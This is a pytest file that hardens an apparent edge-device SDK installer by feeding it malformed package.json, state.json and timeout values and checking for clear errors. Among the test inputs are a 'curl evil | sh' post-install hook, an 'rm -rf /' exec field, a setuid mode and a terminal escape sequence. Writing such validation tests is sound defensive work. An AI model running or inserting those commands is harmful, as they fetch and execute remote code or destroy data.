"""Hardening round two, class 6: configuration values of the wrong type or range. A package's
package.json, an install root's state.json and the health-check/flash timeouts are each checked
(schemas in edge_sdk/schemas/, bounds in edge_sdk/deploy/options.py), with one error naming the
file (or option) and the field. Hostile documents are built from a real `edge-sdk package`."""

from __future__ import annotations

import importlib
import io
import json
import math
import tarfile
import time
from pathlib import Path

import pytest

from edge_sdk.deploy.package import package
from edge_sdk.errors import DeployError, UsageError
from edge_sdk.guard.config_schema import MAX_ERRORS

inst = importlib.import_module("edge_sdk.deploy.install")  # edge_sdk.deploy.install is also a function


@pytest.fixture(scope="module")
def good_package(tiny_bundle, tmp_path_factory) -> Path:
    return Path(package(tiny_bundle, "x86-64-generic", tmp_path_factory.mktemp("cfg") / "good.tar")["package"])


def _repack(src: Path, dst: Path, edit) -> Path:
    """Rewrite package.json (as an attacker holding the file would), keeping every other entry."""
    with tarfile.open(src, "r:*") as tin, tarfile.open(dst, "w", format=tarfile.USTAR_FORMAT) as tout:
        for member in tin.getmembers():
            data = tin.extractfile(member).read() if member.isfile() else None
            if member.name == "package.json":
                doc = json.loads(data)
                edit(doc)
                data = json.dumps(doc).encode()
                member.size = len(data)
            tout.addfile(member, io.BytesIO(data) if data is not None else None)
    return dst


def _set(path: str, value):
    """An edit that sets ``a/b/0/c`` in package.json to ``value``."""
    def edit(doc):
        *parents, last = [int(p) if p.isdigit() else p for p in path.split("/")]
        node = doc
        for p in parents:
            node = node[p]
        node[last] = value
    return edit


# (edit, field named in the error). Each is a value the installer used to accept or crash on.
PACKAGE_BAD = {
    "requirements-list": (_set("requirements", ["onnxruntime"]), "field requirements "),
    "runtimes-string": (_set("requirements/runtimes", "onnxruntime"), "field requirements/runtimes "),
    "runtimes-nested": (_set("requirements/runtimes", [["onnxruntime"]]), "field requirements/runtimes/0 "),
    "runtimes-many": (_set("requirements/runtimes", [f"r{i}" for i in range(9)]), "field requirements/runtimes "),
    "install-number": (_set("requirements/install", {"onnxruntime": 1}), "field requirements/install/onnxruntime"),
    "board-huge": (_set("requirements/board", "b" * 100_000), "field requirements/board"),
    "size-2^70": (_set("files/0/size", 2**70), "field files/0/size "),
    "size-negative": (_set("files/0/size", -1), "field files/0/size "),
    "size-float": (_set("files/0/size", 12.5), "field files/0/size "),
    "size-string": (_set("files/0/size", "12"), "field files/0/size "),
    "size-bool": (_set("files/0/size", True), "field files/0/size "),
    "sha-upper": (_set("files/0/sha256", "A" * 64), "field files/0/sha256 "),
    "mode-setuid": (_set("files/0/mode", "4755"), "field files/0/mode "),
    "mode-int": (_set("files/0/mode", 420), "field files/0/mode "),
    "record-extra": (lambda d: d["files"][0].update(exec="rm -rf /"), "field files/0 "),
    "record-list": (_set("files/0", ["bundle/x", 1]), "field files/0 "),
    "files-empty": (_set("files", []), "field files "),
    "unknown-top": (_set("post_install", "curl evil | sh"), "post_install"),
    "sdk-version-object": (_set("sdk_version", {"v": 1}), "field sdk_version "),
    "bundle-sdk-escape": (_set("bundle_sdk_version", "1\x1b[2J"), "field bundle_sdk_version "),
}


@pytest.mark.parametrize("case", sorted(PACKAGE_BAD))
def test_package_json_fields_are_schema_checked(case, good_package, tmp_path):
    edit, field = PACKAGE_BAD[case]
    bad = _repack(good_package, tmp_path / "bad.tar", edit)
    with pytest.raises(DeployError) as e:
        inst.read_package(bad)
    assert type(e.value) is DeployError
    msg = str(e.value)
    assert "package.json" in msg and field in msg and len(msg) < 700, msg
    assert "\x1b" not in msg or case == "bundle-sdk-escape"  # the CLI escapes for the terminal; the field is named


def test_package_json_cli_one_clear_error(good_package, tmp_path, cli):
    bad = _repack(good_package, tmp_path / "bad.tar", _set("requirements", ["onnxruntime"]))
    root = tmp_path / "root"
    proc = cli("install", str(bad), "--root", str(root))  # runtime check on: the old code crashed there
    assert proc.returncode == DeployError.exit_code, proc.stderr
    assert "package.json: field requirements" in proc.stderr and "Traceback" not in proc.stderr, proc.stderr
    assert len(proc.stderr.strip().splitlines()) <= 2 and not root.joinpath("current").exists()


def test_schema_error_bomb_is_capped(good_package, tmp_path):
    """50,000 bad file records (3.3 MB, under package.json's 4 MB cap): refused quickly, since the error
    list stops at MAX_ERRORS instead of building 200,000 error objects."""
    bad = _repack(good_package, tmp_path / "bomb.tar",
                  _set("files", [{"path": f"bundle/{i}", "size": -1, "sha256": "x", "mode": "7"}
                                 for i in range(50_000)]))
    t = time.perf_counter()
    with pytest.raises(DeployError, match=r"field files/\d+/\w+ .*at least 20 schema error") as e:
        inst.read_package(bad)
    assert time.perf_counter() - t < 5.0 and MAX_ERRORS == 20, str(e.value)


STATE_BAD = {
    "unknown-field": (b'{"history": [], "next": "rm -rf"}', "next"),
    "history-too-long": (json.dumps({"history": ["0123456789abcdef"] * 10_001}).encode(),
                         "field history must be a list of at most 10000"),
    "id-number": (b'{"history": [1234567890123456]}', "field history/0 is not a release id"),
    "id-upper": (b'{"history": ["0123456789ABCDEF"]}', "field history/0 is not a release id"),
    "history-null": (b'{"history": null}', "field history must be a list"),
}


@pytest.mark.parametrize("case", sorted(STATE_BAD))
def test_install_state_schema(case, good_package, tmp_path):
    root = tmp_path / "root"
    inst.install(good_package, root, check_runtimes=False)
    data, fragment = STATE_BAD[case]
    (root / "state.json").write_bytes(data)
    for op in (lambda: inst.rollback(root), lambda: inst.list_releases(root)):
        with pytest.raises(DeployError) as e:
            op()
        assert type(e.value) is DeployError and "state.json" in str(e.value) and fragment in str(e.value), e.value


BAD_SECONDS = [math.nan, math.inf, -math.inf, -1.0, 0.0, 1e400, 10**20, "120", True, None, [120]]


@pytest.mark.parametrize("value", BAD_SECONDS, ids=repr)
def test_health_timeout_bounds_api(value, good_package, tmp_path):
    root = tmp_path / "root"
    with pytest.raises(UsageError, match=r"health_timeout \(--health-timeout\): must be a finite number of seconds"):
        inst.install(good_package, root, check_runtimes=False, health_check=True, health_timeout=value)
    assert not root.joinpath("current").exists()


@pytest.mark.parametrize("option, value", [("health_steps", 2.5), ("health_steps", 0), ("health_steps", 10**9),
                                           ("keep", -1), ("keep", True), ("keep", 2**63)])
def test_install_counts_bounds_api(option, value, good_package, tmp_path):
    with pytest.raises(UsageError, match=rf"{option} .*must be an integer from"):
        inst.install(good_package, tmp_path / "root", check_runtimes=False, **{option: value})


@pytest.mark.parametrize("kwargs, fragment", [
    ({"health_timeout": math.nan}, "health_timeout"), ({"timeout": math.inf}, "timeout:"),
    ({"timeout": -5}, "timeout:"), ({"connect_timeout": 10**6}, "connect_timeout"),
    ({"connect_timeout": 1.5}, "connect_timeout")])
def test_flash_options_refused_before_connecting(kwargs, fragment, good_package):
    # Imported here, not at collection: importing the submodule rebinds edge_sdk.deploy.flash (a function
    # there) to the module, which would break `from edge_sdk.deploy import flash` in files collected later.
    flash = importlib.import_module("edge_sdk.deploy.flash").flash
    t = time.perf_counter()
    with pytest.raises(UsageError, match=fragment):
        flash(good_package, "edge-sdk-no-such-host.invalid", **kwargs)
    assert time.perf_counter() - t < 2.0  # no ssh was started (resolving the host alone can take longer)


@pytest.mark.parametrize("value", ["nan", "inf", "-1", "1e400"])
def test_health_timeout_cli(value, good_package, tmp_path, cli):
    root = tmp_path / "root"
    proc = cli("install", str(good_package), "--root", str(root), "--no-runtime-check", "--health-check",
               "--health-timeout", value)
    assert proc.returncode == UsageError.exit_code and "health-timeout" in proc.stderr, proc.stderr
    assert "Traceback" not in proc.stderr and not root.joinpath("current").exists()


@pytest.mark.parametrize("n", [2 * 10**9, 2**40, 12.5, "1000", 1])
def test_scheduler_training_steps_are_bounded(n, tiny_bundle_copy, helpers):
    """A crafted sampler config with billions of training steps would allocate per step (2e9 steps:
    16 GB of betas); refused by the manifest schema, and by the sampler for API users."""
    import edge_sdk
    from edge_sdk.errors import ManifestError
    from edge_sdk.samplers import get_sampler

    helpers.edit_manifest(tiny_bundle_copy, lambda d: d["sampler"]["config"].__setitem__("num_train_timesteps", n))
    with pytest.raises(ManifestError, match="field sampler/config/num_train_timesteps"):
        edge_sdk.load(tiny_bundle_copy)
    with pytest.raises(UsageError, match="num_train_timesteps must be an integer from 2 to 100,000"):
        get_sampler("ddim", {"num_train_timesteps": n})
